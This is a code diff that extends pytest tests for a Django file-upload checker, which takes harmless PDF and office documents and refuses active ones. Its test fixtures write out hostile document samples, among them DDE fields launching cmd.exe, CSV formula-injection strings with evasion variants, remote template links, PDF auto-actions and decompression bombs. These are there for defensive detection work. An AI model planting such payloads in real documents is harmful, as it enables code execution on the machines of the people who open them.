@@ -1,12 +1,16 @@
 """Documents: what is taken, what is refused and why, and what becomes of their names."""
 
+import io
 import unicodedata
+from pathlib import Path
 
 import pytest
+import xlsxwriter
 from django.core.exceptions import ValidationError
 from django.urls import ResolverMatch, resolve
 
-from citynet.uploads import documents, files
+from citynet.uploads import documents, files, pdf_inside
+from citynet.uploads import office as office_documents
 from tests import uploads
 from tests.uploads import (
     CSV,
@@ -16,13 +20,17 @@ from tests.uploads import (
     packed_pdf,
     pdf,
     pdf_object,
+    pdf_of_bombs,
     pdf_stream,
     sent,
 )
 
 # Objects of a PDF that are packed into a stream.
 OBJECTS = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
-MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+MACRO_TYPES = (
+    "<Types><Override PartName='/word/document.xml' "
+    "ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
+)
 
 
 def is_taken(name, content):
@@ -72,6 +80,13 @@ def test_table_in_unicode_is_taken(content):
         pdf(pdf_object(b"/\xfe")),
         packed_pdf({"/Title": "A report"}),
         locked_pdf(user=""),
+        b"\n" + pdf(),
+        b"\xef\xbb\xbf\r\n\r\n" + pdf(),
+        b"\x1b%-12345X@PJL SET COPIES=1\r\n" + pdf(),
+        b"Content-Type: application/pdf\r\n\r\n" + pdf(),
+        pdf() + bytes(3000),
+        pdf(pdf_object(b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> /AA 9 >>")),
+        pdf(pdf_object(b"<< /Font << /EF 3 0 R /AA 3 0 R >> >>")),
         # Readers mend a table of contents that points elsewhere.
         pdf().replace(b"startxref\n", b"startxref\n1"),
     ],
@@ -96,7 +111,8 @@ def test_harmless_pdf_is_taken(content):
         # PDF
         ("a.pdf", uploads.EXECUTABLE, "content"),
         ("a.pdf", uploads.HTML, "content"),
-        ("a.pdf", uploads.GIF + pdf(), "content"),
+        ("a.pdf", uploads.GIF + pdf(), "mixed"),
+        ("a.pdf", b"\n" * 1025 + pdf(), "content"),
         ("a.pdf", pdf()[:-10], "content"),
         ("a.pdf", office("docx"), "content"),
         ("a.pdf", pdf(tail=archive([("a.txt", "b")])), "mixed"),
@@ -115,6 +131,20 @@ def test_harmless_pdf_is_taken(content):
         ("a.pdf", pdf(pdf_stream(OBJECTS, uploads.zlib.compress(bytes(33 * 1024**2)))), "content"),
         ("a.pdf", pdf(pdf_stream(OBJECTS, b"not packed")), "content"),
         ("a.pdf", locked_pdf(user="secret"), "protected"),
+        ("a.pdf", locked_pdf(user="", packed={"/JS": "app.alert(1)"}), "active"),
+        (
+            "a.pdf",
+            pdf(pdf_object(b"<< /OpenAction << /S /URI /URI (http://a.example) >> >>")),
+            "active",
+        ),
+        (
+            "a.pdf",
+            pdf(pdf_object(b"<< /AA << /O << /S /GoToR /F (//a.example/b) >> >> >>")),
+            "active",
+        ),
+        ("a.pdf", pdf(pdf_object(b"<< /S /SubmitForm /F (http://a.example) >>")), "active"),
+        ("a.pdf", pdf(pdf_stream(b"/EF << /F 4 0 R >>", b"MZ")), "active"),
+        ("a.pdf", pdf(pdf_object(b"<< /AcroForm << /XFA [] >> >>")), "active"),
         # Office
         ("a.docx", uploads.EXECUTABLE, "content"),
         ("a.docx", pdf(), "content"),
@@ -132,7 +162,7 @@ def test_harmless_pdf_is_taken(content):
         ("a.docx", office("docx", [("word/VBAPROJECT.BIN", b"macro")]), "macros"),
         (
             "a.docx",
-            archive([("[Content_Types].xml", MAIN), ("word/document.xml", "<document/>")]),
+            archive([("[Content_Types].xml", MACRO_TYPES), ("word/document.xml", "<document/>")]),
             "macros",
         ),
         ("a.docx", office("docx", [("word/media/a.bin", bytes(210 * 1024**2))]), "bomb"),
@@ -152,7 +182,7 @@ def test_harmless_pdf_is_taken(content):
                 [
                     ("mimetype", uploads.MIMETYPES["ods"]),
                     ("content.xml", "?"),
-                    ("META-INF/manifest.xml", "<manifest:encryption-data/>"),
+                    ("META-INF/manifest.xml", "<manifest><encryption-data/></manifest>"),
                 ]
             ),
             "protected",
@@ -200,9 +230,179 @@ def test_packing_that_nobody_knows_is_refused():
     assert refusal_of("a.docx", bytes(content)) == "content"
 
 
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def docx(body="", relations="", more=()):
+    """A Word document as the newer programs write it, with namespaces and another main part."""
+    content_type = f"application/vnd.openxmlformats-officedocument.{uploads.TYPES['docx'][0]}"
+    types = (
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
+        f'<Override PartName="/word/document2.xml" ContentType="{content_type}.main+xml"/></Types>'
+    )
+    parts = [
+        ("[Content_Types].xml", types),
+        (
+            "word/document2.xml",
+            f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
+        ),
+        ("word/_rels/document2.xml.rels", f"<Relationships>{relations}</Relationships>"),
+    ]
+    return archive([*parts, *more])
+
+
+def relation(kind, target, mode=' TargetMode="External"'):
+    return f'<Relationship Id="r" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
+
+
+def field(*pieces):
+    return "".join(f"<w:r><w:instrText> {piece}</w:instrText></w:r>" for piece in pieces)
+
+
+def xlsx(formula="", more=()):
+    sheet = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
+    return office("xlsx", [("xl/worksheets/sheet1.xml", sheet), *more])
+
+
+def odf(kind, body="", more=()):
+    spaces = (
+        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:table="t" '
+        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
+    )
+    parts = [
+        ("mimetype", uploads.MIMETYPES[kind]),
+        ("content.xml", f"<document {spaces}>{body}</document>"),
+        ("META-INF/manifest.xml", "<manifest/>"),
+    ]
+    return archive([*parts, *more])
+
+
+def real_workbook():
+    """A workbook with a chart, a link and formulas, as a program writes it."""
+    written = io.BytesIO()
+    with xlsxwriter.Workbook(written) as book:
+        sheet = book.add_worksheet("a|b!")
+        sheet.write_column("A1", [1, 2, 3])
+        sheet.write_formula("B1", "=SUM('a|b!'!A1:A3)&\"x|y!z\"")
+        sheet.write_url("C1", "https://www.danang.gov.vn/")
+        sheet.write_formula("D1", '=HYPERLINK("https://www.danang.gov.vn/", "page")')
+        chart = book.add_chart({"type": "column"})
+        chart.add_series({"values": "='a|b!'!$A$1:$A$3"})
+        sheet.insert_chart("E1", chart)
+    return written.getvalue()
+
+
+OWN_TEMPLATE = relation("attachedTemplate", "file:///C:\\Users\\kim\\Normal.dotm")
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("a.docx", docx()),
+        ("a.docx", docx(relations=relation("hyperlink", "https://www.danang.gov.vn/"))),
+        ("a.docx", docx(relations=OWN_TEMPLATE)),
+        ("a.docx", docx(field('HYPERLINK "https://a.example/DDE"', "PAGE"))),
+        (
+            "a.docx",
+            docx(more=[
+                ("word/charts/_rels/chart1.xml.rels", f"<r>{relation('package', '../embeddings/a.xlsx', '')}</r>"),
+                ("word/embeddings/a.xlsx", real_workbook()),
+            ]),
+        ),
+        ("a.xlsx", real_workbook()),
+        ("a.xlsx", xlsx("VLOOKUP(A1,&apos;b|c&apos;!A:B,2)")),
+        ("a.odt", odf("odt", '<a xlink:href="https://www.danang.gov.vn/"/><image xlink:href="Pictures/1.png"/>')),
+        ("a.odt", odf("odt", '<template xlink:href="/C:/Users/kim/city.ott"/>')),
+        ("a.ods", odf("ods", '<cell table:formula="of:=SUM([.A1:.A3])"/>')),
+        ("a.csv", b'a,b\n-5,"- see a | b! more"\n"=""00123""",+84 912\n'),
+    ],
+)  # fmt: skip
+def test_harmless_office_document_is_taken(name, content):
+    files.check(sent(name, content), name)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "code"),
+    [
+        # Loaded from elsewhere when it is opened
+        ("a.docx", docx(relations=relation("attachedTemplate", "https://a.example/b.dotm")), "outside"),
+        ("a.docx", docx(relations=relation("attachedTemplate", "file:///\\\\host\\b.dotm")), "outside"),
+        ("a.docx", docx(relations=relation("image", "https://a.example/pixel.png")), "outside"),
+        ("a.docx", docx(relations=relation("frame", "b.htm")), "outside"),
+        ("a.xlsx", xlsx(more=[("xl/externalLinks/_rels/externalLink1.xml.rels", f"<r>{relation('externalLinkPath', 'Book2.xlsx')}</r>")]), "outside"),
+        ("a.odt", odf("odt", '<image xlink:href="https://a.example/pixel.png"/>'), "outside"),
+        ("a.odt", odf("odt", more=[("meta.xml", '<m xmlns:x="l"><template x:href="https://a.example/b.ott"/></m>')]), "outside"),
+        ("a.odt", odf("odt", '<section-source xlink:href="//host/b.odt"/>'), "outside"),
+        # Files of other programs inside
+        ("a.docx", docx(more=[("word/embeddings/oleObject1.bin", b"x")]), "embedded"),
+        ("a.docx", docx(relations=relation("oleObject", "embeddings/x.dat", "")), "embedded"),
+        ("a.docx", docx("<w:object><OLEObject/></w:object>"), "embedded"),
+        ("a.docx", docx(relations=relation("package", "embeddings/a.xlsx", "")), "embedded"),
+        ("a.docx", docx(relations=relation("aFChunk", "a.html", "")), "embedded"),
+        ("a.docx", docx(more=[("word/embeddings/a.exe", b"MZ")]), "embedded"),
+        ("a.docx", docx(more=[("word/embeddings/a.xlsx", xlsx("cmd|x!A0"))]), "active"),
+        ("a.odt", odf("odt", "<object-ole/>"), "embedded"),
+        ("a.odt", odf("odt", more=[("META-INF/x.xml", '<m><file-entry media-type="application/vnd.sun.star.oleobject"/></m>')]), "embedded"),
+        # Formulas and fields that run
+        ("a.docx", docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe", '"/k calc"')), "active"),
+        ("a.docx", docx("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x y</w:instrText></w:r>"), "active"),
+        ("a.docx", docx('<w:fldSimple w:instr="DDE excel book"/>'), "active"),
+        ("a.docx", docx(field("QUOTE 68 68 69 65 85")), "active"),
+        ("a.pptx", office("pptx", [("ppt/slides/slide1.xml", '<s><hlinkClick action="ppaction://program"/></s>')]), "active"),
+        ("a.xlsx", xlsx("cmd|&apos;/c calc&apos;!A0"), "active"),
+        ("a.xlsx", xlsx("_xlfn.WEBSERVICE(&quot;https://a.example&quot;)"), "active"),
+        ("a.xlsx", xlsx(more=[("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>')]), "active"),
+        ("a.ods", odf("ods", '<cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>'), "active"),
+        ("a.ods", odf("ods", "<dde-source/>"), "active"),
+        ("a.odt", odf("odt", "<script:event-listener/>"), "macros"),
+        ("a.odt", odf("odt", '<a xlink:href="vnd.sun.star.script:x"/>'), "macros"),
+        ("a.csv", b"name,sum\nBus,=cmd|'/C calc'!A0\n", "active"),
+        ("a.csv", b"name;sum\nBus;@SUM(1+1)*cmd|'/C calc'!A0\n", "active"),
+        ("a.csv", "name\tsum\nBus\t ＝cmd|'/C calc'!A0\n".encode(), "active"),
+        ("a.csv", b'"-2+3+cmd|\n \'/C calc\'!A0"\n', "active"),
+        ("a.csv", b'a,"=WEBSERVICE(""https://a.example"")"\n', "active"),
+        ("a.csv", b"a" * 140_000 + b",=DDE(1;2;3)\n", "active"),
+        ("a.csv", "a,=cmd|'/C calc'!A0\n".encode("utf-16"), "active"),
+        # XML that is none
+        ("a.docx", docx("<w:p>"), "content"),
+        ("a.docx", docx(more=[("word/a.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")]), "content"),
+        ("a.docx", archive([("word/document.xml", "<document/>")]), "content"),
+    ],
+)  # fmt: skip
+def test_document_that_does_something_is_refused(name, content, code):
+    assert refusal_of(name, content) == code
+
+
+def test_what_is_written_in_another_encoding_is_found():
+    part = '<?xml version="1.0" encoding="UTF-16"?><x><f>cmd|&#39;/c&#39;!A0</f></x>'
+    book = xlsx(more=[("xl/worksheets/sheet2.xml", part.encode("utf-16"))])
+    assert refusal_of("a.xlsx", book) == "active"
+
+
+def test_pdf_that_takes_too_long_is_refused(monkeypatch):
+    monkeypatch.setattr(documents, "SECONDS", 0.001)
+    assert refusal_of("a.pdf", pdf()) == "limits"
+
+
+def test_pdf_is_looked_into_with_limits(monkeypatch, tmp_path):
+    # A file of 300 kB whose parts unpack to a gigabyte.
+    bomb = pdf_of_bombs(count=32, size=30 * 1024**2)
+    source = Path(pdf_inside.__file__).read_text().replace("CPU_SECONDS = 10", "CPU_SECONDS = 1")
+    script = tmp_path / "pdf_inside.py"
+    script.write_text(source)
+    monkeypatch.setattr(pdf_inside, "__file__", str(script))
+    assert refusal_of("a.pdf", bomb) == "limits"
+
+
 def test_parts_are_read_up_to_a_limit_only(monkeypatch):
-    monkeypatch.setattr(documents, "MAX_PART", 5)
-    assert refusal_of("a.docx", office("docx")) == "content"
+    monkeypatch.setattr(office_documents, "MAX_ELEMENTS", 1)
+    assert refusal_of("a.docx", office("docx")) == "bomb"
+    monkeypatch.setattr(office_documents, "MAX_ELEMENTS", 9)
+    monkeypatch.setattr(office_documents, "MAX_FIELDS", 3)
+    assert refusal_of("a.docx", docx("<r><instrText>PAGE</instrText></r>")) == "bomb"
 
 
 def test_limit_of_bytes(settings):
